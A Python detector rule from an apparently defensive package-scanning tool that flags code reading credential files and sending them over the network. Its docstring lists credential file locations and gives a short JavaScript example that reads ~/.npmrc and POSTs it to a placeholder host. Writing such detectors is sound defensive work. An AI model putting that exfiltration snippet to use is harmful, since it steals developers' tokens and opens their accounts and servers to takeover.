"""A file of credentials is read and sent out.

*What it does*

Follows values backwards from every call that sends something over a network, and speaks where the content of a file may
end up there that holds credentials by its place: `.npmrc`, `.ssh`, cloud and cluster settings, password stores of
browsers, wallets, shell histories.

*Why it matters*

What is in these files opens accounts, servers and wallets. An honest package that reads one uses it on the spot.

*Example*

    const fs = require("fs"), os = require("os"), path = require("path");
    const tokens = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
    fetch("https://collect.acme.invalid", { method: "POST", body: tokens });
"""

from __future__ import annotations

from collections.abc import Iterator

from assay.detectors.source._flows import confidence, sinks, softened, when
from assay.model.finding import Finding, finding
from assay.model.rule import Concern, Rule, Severity
from assay.model.source import BehaviourKind
from assay.model.subject import Subject

RULE = Rule(
    id="credential-exfiltration",
    title="Sends a file of credentials over the network",
    severity=Severity.CRITICAL,
    concern=Concern.MALICE,
    advice="Do not install or run it. If it has run, replace the credentials that were in that file.",
    techniques=("T1552.001", "T1555", "T1041"),
)
_SOURCES = frozenset({BehaviourKind.CREDENTIAL_READ})
_TARGETS = frozenset({BehaviourKind.NETWORK})


def detect(subject: Subject) -> Iterator[Finding]:
    """One finding for each call that sends credentials."""
    for sink in sinks(subject, _SOURCES, _TARGETS):
        source = sink.sources[0]
        yield finding(
            RULE,
            f"{subject.ref} sends what it read by {source.detail} over the network {when(sink.file)}",
            *sink.evidence(f"{sink.behaviour.detail} sends it"),
            severity=softened(sink.file, RULE.severity),
            confidence=confidence(sink.file),
        )
